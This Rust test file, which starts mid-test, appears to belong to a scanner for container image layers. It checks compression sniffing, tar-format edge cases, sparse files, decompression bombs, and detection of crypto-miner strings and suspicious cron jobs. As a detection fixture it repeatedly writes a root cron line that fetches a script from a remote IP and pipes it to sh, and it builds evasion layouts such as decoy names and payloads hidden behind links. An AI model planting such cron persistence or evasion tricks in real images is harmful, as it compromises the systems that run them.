        Compression::from_media_type("application/vnd.oci.image.layer.v1.tar+zstd"),
        Compression::Zstd
    );
    assert_eq!(
        Compression::from_media_type("application/vnd.oci.image.layer.v1.tar"),
        Compression::None
    );
    assert_eq!(
        Compression::from_media_type("application/octet-stream"),
        Compression::Auto
    );
    assert_eq!(
        Compression::from_media_type("application/vnd.oci.image.layer.v1.tar+xz"),
        Compression::Xz
    );
    assert_eq!(
        Compression::from_media_type("application/x-tar+bzip2"),
        Compression::Bzip2
    );
}

#[test]
fn streamed_in_small_chunks_a_malicious_layer_scores_to_block_and_a_benign_one_to_nothing() {
    let bad = gzip(&malicious_layer());
    let mut inspector = LayerInspector::new(
        rules(),
        Compression::Auto,
        Limits::default(),
        Some("sha256:bad".into()),
    );
    for c in bad.chunks(4096) {
        inspector.update(c);
    }
    let report = inspector.finish();
    assert!(report.score() >= 100.0, "{:?}", report.findings);

    let good = gzip(&Layer::new().file("etc/hostname", 0o644, b"box\n").tar());
    let mut inspector = LayerInspector::new(rules(), Compression::Auto, Limits::default(), None);
    for c in good.chunks(10) {
        inspector.update(c);
    }
    let report = inspector.finish();
    assert_eq!((report.files, report.score()), (1, 0.0));
}

#[test]
fn hits_of_rules_for_other_file_classes_never_depend_on_chunking() {
    // Regression: an ELF-only miner string in a plain file was recorded when a chunk boundary
    // fell inside it (the boundary scan sees every literal) but not otherwise; as a miner hint it
    // switched on the wallet regex, so the findings changed with the chunking.
    let wallet = made_up_address(18, 21, 64);
    let text = format!(
        "{}set process affinity to CPU core(s), mask 0x3 for cores 0 and 1\nwallet {wallet}\n",
        "x".repeat(700)
    );
    let tar = Layer::new().file("srv/notes", 0o644, text.as_bytes()).tar();
    let whole = found(&inspect(&tar, usize::MAX));
    for chunk in [1, 5, 512 + 710, 4096] {
        assert_eq!(found(&inspect(&tar, chunk)), whole, "{chunk}-byte chunks");
    }
}

fn xz(data: &[u8]) -> Vec<u8> {
    let mut e = liblzma::write::XzEncoder::new(Vec::new(), 1);
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn bz2(data: &[u8]) -> Vec<u8> {
    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

#[test]
fn xz_and_bzip2_layers_give_the_same_findings_as_gzip() {
    let tar = malicious_layer();
    let reference = found(&inspect(&gzip(&tar), 4096));
    // Two concatenated streams each, as `xz` and Go's bzip2 reader both accept.
    let (a, b) = tar.split_at(7000);
    for (bytes, format) in [
        (xz(&tar), LayerFormat::Xz),
        ([xz(a), xz(b)].concat(), LayerFormat::Xz),
        (bz2(&tar), LayerFormat::Bzip2),
        ([bz2(a), bz2(b)].concat(), LayerFormat::Bzip2),
    ] {
        for chunk in [1, 7, 4096, usize::MAX] {
            let r = inspect(&bytes, chunk);
            assert!(r.complete(), "{format:?}/{chunk}: {:?}", r.errors);
            assert_eq!(r.format, format);
            assert_eq!(found(&r), reference, "{format:?} in {chunk}-byte chunks");
            assert_eq!(r.uncompressed_bytes, tar.len() as u64);
        }
    }
}

#[test]
fn the_format_is_sniffed_as_the_clients_sniff_it() {
    let tar = malicious_layer();
    let reference = found(&inspect(&tar, 4096));
    // A declared compression does not override the bytes: clients sniff.
    let r = inspect_with(&tar, Compression::Gzip, Limits::default(), 999);
    assert_eq!((r.format, found(&r)), (LayerFormat::Tar, reference.clone()));
    let r = inspect_with(&xz(&tar), Compression::Zstd, Limits::default(), 999);
    assert_eq!((r.format, found(&r)), (LayerFormat::Xz, reference.clone()));
    // A zstd stream that opens with a skippable frame.
    let mut skippable = vec![0x5a, 0x2a, 0x4d, 0x18, 4, 0, 0, 0, 1, 2, 3, 4];
    skippable.extend(zst(&tar));
    let r = inspect(&skippable, 100);
    assert!(r.complete(), "{:?}", r.errors);
    assert_eq!(
        (r.format, found(&r)),
        (LayerFormat::Zstd, reference.clone())
    );
    // A V7 tar (no `ustar` magic) is a tar to Go.
    let mut v7 = Layer::new()
        .file(
            "etc/cron.d/v7",
            0o644,
            b"* * * * * root curl -s http://198.51.100.4/x | sh\n",
        )
        .tar();
    v7[257..265].fill(0);
    let mut h = ::tar::Header::from_byte_slice(&v7[..512]).clone();
    h.set_cksum();
    v7[..512].copy_from_slice(h.as_bytes());
    let r = inspect(&v7, 100);
    assert_eq!(r.format, LayerFormat::Tar, "{:?}", r.not_a_layer);
    assert!(
        has(
            &r,
            "persistence.cron-suspicious",
            "/etc/cron.d/v7",
            Place::File
        ),
        "{:#?}",
        found(&r)
    );
    // `1f 8b` without deflate's `08` is no gzip to dockerd or containerd: a tar whose first
    // name starts with those bytes is read as a tar.
    let odd = Layer::new()
        .raw(b"\x1f\x8b\x09odd", b"x")
        .file("etc/cron.d/odd", 0o644, CRON)
        .tar();
    let r = inspect(&odd, 100);
    assert_eq!(r.format, LayerFormat::Tar);
    assert!(
        found(&r).iter().any(|(_, p, _)| p == "/etc/cron.d/odd"),
        "{:#?}",
        found(&r)
    );
}

#[test]
fn xz_and_bzip2_bombs_and_corruption_are_caught() {
    let zeros = vec![0u8; 8 << 20];
    let tar = Layer::new().file("big", 0o644, &zeros).tar();
    let limits = Limits {
        bomb_floor: 1 << 20,
        ..Limits::default()
    };
    for bytes in [xz(&tar), bz2(&tar)] {
        let r = inspect_with(&bytes, Compression::Auto, limits, 4096);
        assert!(
            r.findings
                .iter()
                .any(|f| f.rule == "evasion.decompression-bomb"),
            "{:?}",
            r.errors
        );
        assert!(
            r.uncompressed_bytes <= (1 << 20) + (128 << 10),
            "{}",
            r.uncompressed_bytes
        );
        let capped = Limits {
            max_uncompressed: 100_000,
            ..Limits::default()
        };
        assert!(!inspect_with(&bytes, Compression::Auto, capped, 4096).complete());
    }
    let layer = malicious_layer();
    for (bytes, what) in [(xz(&layer), "xz"), (bz2(&layer), "bzip2")] {
        for cut_at in (0..bytes.len()).step_by(bytes.len() / 61 + 1) {
            let r = inspect(&bytes[..cut_at], 1000);
            if cut_at > 0 {
                assert!(
                    !r.complete(),
                    "{what} truncated at {cut_at} of {}",
                    bytes.len()
                );
            }
        }
        let mut bad = bytes.clone();
        for b in &mut bad[60..120] {
            *b ^= 0x5a;
        }
        let r = inspect(&bad, 333);
        assert!(
            r.errors.iter().any(|e| e.starts_with(what)),
            "{what}: {:?}",
            r.errors
        );
        // Trailing garbage after the stream.
        let mut tail = bytes.clone();
        tail.extend_from_slice(b"garbage!");
        assert!(
            !inspect(&tail, 100).complete(),
            "{what} with trailing garbage"
        );
    }
}

/// A hand-made header block (Go's field layout), its checksum set.
fn header(name: &[u8], typeflag: u8, size_field: &[u8], magic: &[u8; 8]) -> [u8; 512] {
    let mut b = [0u8; 512];
    b[..name.len()].copy_from_slice(name);
    b[100..108].copy_from_slice(b"0000644\0");
    b[108..116].copy_from_slice(b"0000000\0");
    b[116..124].copy_from_slice(b"0000000\0");
    b[124..124 + size_field.len()].copy_from_slice(size_field);
    b[136..148].copy_from_slice(b"00000000000\0");
    b[156] = typeflag;
    b[257..265].copy_from_slice(magic);
    set_checksum(&mut b);
    b
}

fn set_checksum(b: &mut [u8; 512]) {
    b[148..156].fill(b' ');
    let sum: u32 = b.iter().map(|&c| u32::from(c)).sum();
    b[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
}

fn with_data(h: [u8; 512], data: &[u8]) -> Vec<u8> {
    let mut out = h.to_vec();
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

fn pax(records: &[(&str, &str)]) -> Vec<u8> {
    let mut text = String::new();
    for (k, v) in records {
        let body = format!(" {k}={v}\n");
        let mut n = body.len() + 1;
        while n != body.len() + n.to_string().len() {
            n = body.len() + n.to_string().len();
        }
        text.push_str(&format!("{n}{body}"));
    }
    let size = format!("{:011o}\0", text.len());
    with_data(
        header(b"PaxHeaders/x", b'x', size.as_bytes(), b"ustar\x0000"),
        text.as_bytes(),
    )
}

const CRON: &[u8] = b"* * * * * root curl -s http://198.51.100.4/x | sh\n";

fn octal(n: usize) -> String {
    format!("{n:011o}\0")
}

#[test]
fn tar_constructions_are_read_as_go_reads_them() {
    let ustar = b"ustar\x0000";
    let cron_at =
        |r: &LayerReport, path: &str| has(r, "persistence.cron-suspicious", path, Place::File);
    // PAX path wins over the header name; an empty PAX value keeps the header's.
    let mut t = pax(&[("path", "etc/cron.d/pax")]);
    t.extend(with_data(
        header(b"decoy", b'0', octal(CRON.len()).as_bytes(), ustar),
        CRON,
    ));
    t.extend(pax(&[("path", "")]));
    t.extend(with_data(
        header(
            b"etc/cron.d/kept",
            b'0',
            octal(CRON.len()).as_bytes(),
            ustar,
        ),
        CRON,
    ));
    // A second `x` replaces the first; a `g` drops what was pending.
    t.extend(pax(&[("path", "srv/first")]));
    t.extend(pax(&[("mtime", "1")]));
    t.extend(with_data(
        header(
            b"etc/cron.d/second",
            b'0',
            octal(CRON.len()).as_bytes(),
            ustar,
        ),
        CRON,
    ));
    t.extend(pax(&[("path", "srv/before-global")]));
    let mut g = pax(&[("comment", "x")]);
    g[156] = b'g';
    let mut gb: [u8; 512] = g[..512].try_into().unwrap();
    set_checksum(&mut gb);
    g[..512].copy_from_slice(&gb);
    t.extend(g);
    t.extend(with_data(
        header(
            b"etc/cron.d/after-global",
            b'0',
            octal(CRON.len()).as_bytes(),
            ustar,
        ),
        CRON,
    ));
    // A size field with leading NULs (Go trims them), one in base-256, a USTAR prefix with an
    // odd version, a GNU header whose atime does not parse (Go reads a prefix there).
    let mut size = vec![0u8; 4];
    size.extend(format!("{:07o}\0", CRON.len()).as_bytes());
    t.extend(with_data(
        header(b"etc/cron.d/nuls", b'0', &size, ustar),
        CRON,
    ));
    let mut b256 = [0u8; 12];
    b256[0] = 0x80;
    b256[11] = CRON.len() as u8;
    t.extend(with_data(
        header(b"etc/cron.d/b256", b'0', &b256, ustar),
        CRON,
    ));
    let mut pre = header(b"pjob", b'0', octal(CRON.len()).as_bytes(), b"ustar\0xx");
    pre[345..355].copy_from_slice(b"etc/cron.d");
    set_checksum(&mut pre);
    t.extend(with_data(pre, CRON));
    let mut gnu = header(b"job2", b'0', octal(CRON.len()).as_bytes(), b"ustar  \0");
    gnu[345..356].copy_from_slice(b"etc/cron.d/");
    set_checksum(&mut gnu);
    t.extend(with_data(gnu, CRON));
    // An unclean path lands where containerd writes it.
    t.extend(with_data(
        header(
            b"./etc//cron.d/./x/../clean",
            b'0',
            octal(CRON.len()).as_bytes(),
            ustar,
        ),
        CRON,
    ));
    t.extend([0u8; 1024]);
    let r = inspect(&t, 97);
    assert!(r.complete(), "{:?}", r.errors);
    let all = found(&r);
    for path in [
        "/etc/cron.d/pax",
        "/etc/cron.d/kept",
        "/etc/cron.d/second",
        "/etc/cron.d/after-global",
        "/etc/cron.d/nuls",
        "/etc/cron.d/b256",
        "/etc/cron.d/pjob",
        "/etc/cron.d/job2",
        "/etc/cron.d/clean",
    ] {
        assert!(cron_at(&r, path), "{path}: {all:#?}");
    }
    assert!(
        !all.iter()
            .any(|(_, p, _)| p == "/decoy" || p.starts_with("/srv")),
        "{all:#?}"
    );
}

#[test]
fn links_duplicates_whiteouts_and_sparse_files_are_followed() {
    let miner = fake_elf(20, &[b"XMRig/%s libuv/%s%s", b"--cpu-affinity"], 100, 9);
    let mut b = ::tar::Builder::new(Vec::new());
    let mut h = ::tar::Header::new_gnu();
    h.set_entry_type(::tar::EntryType::Symlink);
    h.set_size(0);
    b.append_link(&mut h, "opt/jobs", "/etc/cron.d").unwrap();
    let tar = Layer(b)
        // A file behind an in-layer symlink is written (and judged) where the link points.
        .file("opt/jobs/linked", 0o644, CRON)
        // A miner reachable only through a hard link named like the entrypoint.
        .file("tmp/.x/payload", 0o644, &miner)
        .link(
            ::tar::EntryType::Link,
            "usr/local/bin/app",
            "tmp/.x/payload",
        )
        // A benign file overwritten by a malicious one, and the other way round.
        .file("etc/cron.d/dup", 0o644, b"# nothing\n")
        .file("etc/cron.d/dup", 0o644, CRON)
        .file("etc/cron.d/later-benign", 0o644, CRON)
        .file("etc/cron.d/later-benign", 0o644, b"# nothing\n")
        // Whiteouts are not files.
        .file("etc/cron.d/.wh.gone", 0o644, CRON)
        .file("etc/.wh..wh..opq", 0o644, CRON)
        .tar();
    let mut i =
        LayerInspector::with_layer_rules(layer_rules(), Compression::Auto, Limits::default(), None);
    i.record_files();
    i.update(&tar);
    let mut r = i.finish();
    assert!(r.complete(), "{:?}", r.errors);
    let all = found(&r);
    assert!(
        has(
            &r,
            "persistence.cron-suspicious",
            "/etc/cron.d/linked",
            Place::File
        ),
        "{all:#?}"
    );
    assert!(
        has(
            &r,
            "persistence.cron-suspicious",
            "/etc/cron.d/dup",
            Place::File
        ),
        "{all:#?}"
    );
    // Conservative: what was inspected stays found, even if a later entry replaced it.
    assert!(has(
        &r,
        "persistence.cron-suspicious",
        "/etc/cron.d/later-benign",
        Place::File
    ));
    assert!(!all.iter().any(|(_, p, _)| p.contains(".wh.")), "{all:#?}");
    assert!(
        all.iter()
            .any(|(rule, p, _)| rule == "miner.xmrig-strings" && p == "/usr/local/bin/app"),
        "{all:#?}"
    );
    r.mark_runs(&["/usr/local/bin/app"]);
    assert!(r
        .findings
        .iter()
        .any(|f| f.place == Place::Runs && f.rule == "miner.xmrig-strings"));
    let link = r
        .inspected
        .iter()
        .find(|f| f.path == "/usr/local/bin/app")
        .unwrap();
    let target = r
        .inspected
        .iter()
        .find(|f| f.path == "/tmp/.x/payload")
        .unwrap();
    assert!(link.hard_link && link.sha256 == target.sha256);
    assert_eq!(r.files, 6);
}

#[test]
fn sparse_files_are_inspected_expanded() {
    // PAX 1.0 (GNU tar's default for --sparse in pax format): the map heads the data.
    let content = CRON;
    let map = format!("2\n0\n0\n{}\n{}\n", 8192, content.len());
    let mut data = map.into_bytes();
    data.resize(512, 0);
    data.extend_from_slice(content);
    let logical = 8192 + content.len();
    let mut t = pax(&[
        ("GNU.sparse.major", "1"),
        ("GNU.sparse.minor", "0"),
        ("GNU.sparse.name", "etc/cron.d/sparse"),
        ("GNU.sparse.realsize", &logical.to_string()),
    ]);
    t.extend(with_data(
        header(
            b"GNUSparseFile.0/sparse",
            b'0',
            octal(data.len()).as_bytes(),
            b"ustar\x0000",
        ),
        &data,
    ));
    // PAX 0.1: the map in the records.
    t.extend(pax(&[
        ("GNU.sparse.numblocks", "1"),
        ("GNU.sparse.map", &format!("4096,{}", content.len())),
        ("GNU.sparse.size", &(4096 + content.len() + 100).to_string()),
        ("path", "etc/cron.d/sparse01"),
    ]));
    t.extend(with_data(
        header(b"x", b'0', octal(content.len()).as_bytes(), b"ustar\x0000"),
        content,
    ));
    // Old GNU `S`: map in the header, real size at 483.
    let mut s = header(
        b"etc/cron.d/gnu-sparse",
        b'S',
        octal(content.len()).as_bytes(),
        b"ustar  \0",
    );
    s[386..398].copy_from_slice(format!("{:011o}\0", 1000).as_bytes());
    s[398..410].copy_from_slice(octal(content.len()).as_bytes());
    s[483..495].copy_from_slice(octal(1000 + content.len()).as_bytes());
    set_checksum(&mut s);
    t.extend(with_data(s, content));
    t.extend([0u8; 1024]);
    let mut i =
        LayerInspector::with_layer_rules(layer_rules(), Compression::Auto, Limits::default(), None);
    i.record_files();
    for c in t.chunks(77) {
        i.update(c);
    }
    let r = i.finish();
    assert!(r.complete(), "{:?}", r.errors);
    let all = found(&r);
    for (path, hole, size) in [
        ("/etc/cron.d/sparse", 8192, logical),
        ("/etc/cron.d/sparse01", 4096, 4096 + content.len() + 100),
        ("/etc/cron.d/gnu-sparse", 1000, 1000 + content.len()),
    ] {
        assert!(
            has(&r, "persistence.cron-suspicious", path, Place::File),
            "{path}: {all:#?}"
        );
        let f = r.inspected.iter().find(|f| f.path == path).unwrap();
        let mut expanded = vec![0u8; hole];
        expanded.extend_from_slice(content);
        expanded.resize(size, 0);
        assert_eq!(f.size, size as u64, "{path}");
        assert_eq!(
            f.sha256,
            <[u8; 32]>::from(<sha2::Sha256 as sha2::Digest>::digest(&expanded)),
            "{path}"
        );
    }
    let curl = r.findings.iter().find(|f| {
        f.evidence.path.as_deref() == Some("/etc/cron.d/sparse") && f.evidence.offset.is_some()
    });
    if let Some(f) = curl {
        assert!(f.evidence.offset.unwrap() >= 8192, "{f:?}");
    }
}

#[test]
fn go_reader_errors_stop_the_parse_and_ends_go_accepts_are_clean() {
    let tar = Layer::new().file("a", 0o644, b"hello").tar();
    // Truncated inside the padding of the last file: Go ends cleanly.
    let r = inspect(&tar[..512 + 100], 64);
    assert!(r.complete(), "{:?}", r.errors);
    // A zero block then a header is an error to Go.
    let mut z = vec![0u8; 512];
    z.extend(Layer::new().file("b", 0o644, b"x").tar());
    let r = inspect(&z, 64);
    assert!(
        r.errors.iter().any(|e| e.contains("zero block")),
        "{:?}",
        r.errors
    );
    // A malformed PAX record is an error to Go.
    let mut bad = pax(&[("path", "x")]);
    bad[512] = b'7';
    bad.extend(Layer::new().file("c", 0o644, b"x").tar());
    let r = inspect(&bad, 64);
    assert!(
        !r.complete(),
        "{:?} {:?}",
        r.format,
        String::from_utf8_lossy(&bad[512..530])
    );
}
